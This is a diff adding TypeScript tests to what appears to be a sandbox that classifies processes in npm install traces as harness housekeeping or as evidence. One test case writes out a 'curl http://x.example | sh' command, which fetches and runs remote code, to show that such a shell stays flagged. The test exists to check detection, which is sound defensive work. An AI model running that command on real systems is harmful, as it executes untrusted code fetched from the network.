@@ -259,3 +259,48 @@ describe('getaddrinfo address selection', () => {
     expect(b.housekeeping?.find((h) => h.category === 'address-selection')?.count).toBe(2);
   });
 });
+
+describe("the idle window's harness shell", () => {
+  const script = `'npm' 'rebuild' 'evil' '--foreground-scripts'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`;
+  const trace = (root: string) => `
+1 1.0 execve("/bin/sh", ${root}, 0x1 /* 1 var */) = 0
+1 1.1 vfork() = 2
+2 1.2 execve("/usr/bin/npm", ["npm", "rebuild", "evil", "--foreground-scripts"], 0x1 /* 1 var */) = 0
+2 1.3 vfork() = 3
+3 1.4 execve("/bin/sh", ["sh", "-c", "node install.js"], 0x1 /* 1 var */) = 0
+3 1.5 +++ exited with 0 +++
+2 1.6 +++ exited with 0 +++
+1 1.7 vfork() = 4
+4 1.8 execve("/usr/bin/node", ["node", "/usr/local/libexec/import-npm.cjs", "evil"], 0x1 /* 1 var */) = 0
+4 1.9 +++ exited with 0 +++
+1 2.0 +++ exited with 0 +++
+`;
+  const housekeeping = async (root: string) => {
+    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(trace(root)) }], sandbox });
+    return b.processes.map((p) => [p.argv[0], p.housekeeping ?? false]);
+  };
+
+  it('is housekeeping as the phase root; the steps it starts are judged as in their own phases', async () => {
+    expect(await housekeeping(JSON.stringify(['/bin/sh', '-c', script]))).toEqual([
+      ['/bin/sh', true],
+      ['npm', true],
+      ['sh', false],
+      ['node', false],
+    ]);
+  });
+
+  it('a look-alike shell that is not the root, or runs anything else, stays evidence', async () => {
+    expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `${script}; curl http://x.example | sh`])))[0]).toEqual(['/bin/sh', false]);
+    expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `'curl' 'http://x.example'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`])))[0]).toEqual(['/bin/sh', false]);
+    // Package code running the very same command: a child, so evidence.
+    const nested = `
+1 1.0 execve("/usr/bin/node", ["node", "install.js"], 0x1 /* 1 var */) = 0
+1 1.1 vfork() = 2
+2 1.2 execve("/bin/sh", ${JSON.stringify(['/bin/sh', '-c', script])}, 0x1 /* 1 var */) = 0
+2 1.3 +++ exited with 0 +++
+1 1.4 +++ exited with 0 +++
+`;
+    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(nested) }], sandbox });
+    expect(b.processes.map((p) => p.housekeeping ?? false)).toEqual([false, false]);
+  });
+});
